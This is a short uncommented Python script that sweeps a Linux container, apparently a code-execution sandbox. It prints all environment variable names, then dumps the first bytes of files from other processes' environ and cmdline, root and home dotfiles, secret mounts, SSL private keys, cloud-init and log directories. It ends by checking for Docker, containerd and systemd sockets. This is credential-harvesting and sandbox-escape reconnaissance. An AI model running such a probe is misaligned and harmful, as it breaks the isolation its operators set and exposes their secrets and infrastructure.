import glob
import os
import socket

print("ENV", *sorted(os.environ))
seen = 0
for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ", "/root/*", "/root/.*", "/home/*/*", "/home/*/.*",
                "/var/run/secrets/**", "/run/secrets/**", "/run/**", "/var/run/**", "/etc/*", "/etc/ssl/private/*", "/.git/*",
                "/box/**", "/tmp/**", "/var/tmp/**", "/dev/shm/**", "/opt/*", "/srv/*", "/var/lib/**", "/var/log/**", "/mnt/**",
                "/var/lib/cloud/**", "/sys/class/dmi/id/*", "/var/lib/execd/**", "/var/spool/**"):
    for path in glob.iglob(pattern, recursive=True):
        try:
            if os.path.isfile(path):
                with open(path, "rb") as f:
                    seen += 1
                    print("FILE", path, f.read(512))
            elif os.path.exists(path) and not os.path.isdir(path):
                print("ODD", path)
        except OSError:
            pass
for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/root", "/home"):
    print("LOOK", path, os.path.exists(path) and (os.path.isdir(path) and os.listdir(path) or "there"))
print("SEEN", seen)
